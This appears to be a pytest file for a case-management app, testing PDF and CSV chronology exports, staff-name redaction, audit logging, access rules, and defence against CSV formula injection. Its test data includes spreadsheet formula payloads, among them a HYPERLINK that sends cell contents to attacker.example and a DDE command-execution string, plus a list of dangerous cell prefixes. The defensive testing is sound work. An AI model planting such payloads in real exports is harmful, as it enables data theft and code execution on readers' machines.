"""Exports of a case's chronology: PDF (read back as text) and CSV, with staff names redacted on request; every
export audited and logged."""
from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from pypdf import PdfReader

from app.extensions import db
from app.models import AccessLogEntry, AuditEvent
from tests.conftest import make_case

STAFF_NAMES = ("Officer Tester", "Staff Tester", "Lead Tester")  # conftest's users: first name, last name


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_the_pdf_opens_and_holds_the_whole_chronology(api, ctx):
    case_id = make_case("staff", state="referred_to_police", subject={"full_name": "Zoë Ahmed-Łukasik",
                                                                     "subject_type": "learner"})
    response = api("lead").get(f"/api/v1/case/{case_id}/export?format=pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert "attachment" in response.headers["Content-Disposition"]
    text = pdf_text(response.data)
    for expected in ("Reason for acknowledge", "Reason for refer_to_police", "Zoë Ahmed-Łukasik", "Officer Tester",
                     "Staff Tester", "referred_to_police"):
        assert expected in text, expected


def test_redaction_replaces_every_staff_name_and_keeps_the_story(api, ctx):
    case_id = make_case("staff", state="under_review", description="Said something worrying")
    text = pdf_text(api("officer").get(f"/api/v1/case/{case_id}/export?format=pdf&redact_staff=true").data)
    assert not [name for name in STAFF_NAMES if name in text]
    assert "Staff member 1" in text and "Reason for acknowledge" in text
    rows = list(csv.reader(io.StringIO(
        api("officer").get(f"/api/v1/case/{case_id}/export?format=csv&redact_staff=true").data.decode("utf-8-sig"))))
    assert rows[0] == ["at", "kind", "by", "summary", "from_status", "to_status", "reason", "details"]
    assert [row[6] for row in rows if row[1] == "transition"] == ["Reason for acknowledge"]
    assert not [name for name in STAFF_NAMES for row in rows for cell in row if name in cell]


def test_every_export_is_audited_and_logged(api, ctx):
    case_id = make_case("staff")
    api("officer").get(f"/api/v1/case/{case_id}/export?format=csv&redact_staff=true")
    event = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.case_id == case_id,
                                                           AuditEvent.action == "export_csv")).one()
    assert event.actor == "officer" and event.changes["redact_staff"]["new"] is True
    logged = db.session.scalars(sa.select(AccessLogEntry).where(AccessLogEntry.case_id == case_id,
                                                                AccessLogEntry.channel == "export")).all()
    assert [(e.user.username, e.what) for e in logged] == [("officer", "export_csv")]


def test_exports_follow_the_case_rules(api, web, ctx):
    case_id = make_case("staff")
    assert api("staff").get(f"/api/v1/case/{case_id}/export?format=pdf").status_code == 403
    assert api("governance").get(f"/api/v1/case/{case_id}/export?format=pdf").status_code == 403
    assert api("officer").get("/api/v1/case/987654321/export?format=pdf").status_code == 404
    assert api("officer").get(f"/api/v1/case/{case_id}/export?format=docx").status_code == 422
    restricted = make_case("staff", subject={"full_name": "A Colleague", "subject_type": "staff"})
    assert api("officer").get(f"/api/v1/case/{restricted}/export?format=csv").status_code == 404
    page = web("officer").get(f"/cases/{case_id}/export?format=csv")
    assert page.status_code == 200 and page.mimetype == "text/csv"


# --- formula injection: every CSV the product writes ---------------------------------------------------------------

# Words staff type, each starting as a spreadsheet formula would (OWASP's list: = + - @ tab CR).
FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1")
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def assert_spreadsheet_safe(content: bytes) -> None:
    cells = csv_cells(content)
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
    for formula in FORMULAS[:4]:  # kept, behind the apostrophe, for the reader (the page strips leading space)
        assert any(cell.startswith("'" + formula) for cell in cells), formula


def test_every_csv_export_neutralises_cells_a_spreadsheet_would_run(api, web, ctx):
    from datetime import date
    case_id = make_case("staff", subject={"full_name": "Formula Subject", "subject_type": "learner",
                                          "programme": FORMULAS[0]})
    officer = api("officer")
    for formula in FORMULAS:  # each a whole cell of the chronology: the note's text is its reason column
        response = officer.post(f"/api/v1/case/{case_id}/notes",
                                json={"kind": "note", "text": formula, "source": formula})
        assert response.status_code == 201, response.get_json()
    exports = {
        "case page": web("officer").get(f"/cases/{case_id}/export?format=csv"),
        "case page, redacted": web("officer").get(f"/cases/{case_id}/export?format=csv&redact_staff=true"),
        "case API": officer.get(f"/api/v1/case/{case_id}/export?format=csv"),
        "case API, redacted": officer.get(f"/api/v1/case/{case_id}/export?format=csv&redact_staff=true"),
    }
    for name, response in exports.items():
        assert response.status_code == 200 and response.mimetype == "text/csv", name
        assert_spreadsheet_safe(response.data)
    today = date.today().isoformat()
    report = web("lead").get(f"/reports/board?from={today}&to={today}&format=csv")
    assert report.status_code == 200 and report.mimetype == "text/csv"
    cells = csv_cells(report.data)
    assert "'" + FORMULAS[0] in cells  # the programme's name, a row of "By programme"
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]


def test_spreadsheet_safe_prefixes_exactly_the_formula_starts():
    from app.kernel.exports import spreadsheet_safe
    for formula in FORMULAS:
        assert spreadsheet_safe(formula) == "'" + formula
    for harmless in ("Concern text", "2026-12-01T10:00:00+00:00", "Staff member 1", "", "'quoted", " =spaced"):
        assert spreadsheet_safe(harmless) == harmless


def test_every_csv_goes_through_the_one_safe_writer():
    """A new export written with its own csv.writer would skip the neutralising: only app/kernel/exports.py writes
    CSV."""
    from pathlib import Path
    writers = [str(path) for path in Path("app").rglob("*.py") if "csv.writer(" in path.read_text()
               or "DictWriter(" in path.read_text()]
    assert writers == ["app/kernel/exports.py"]
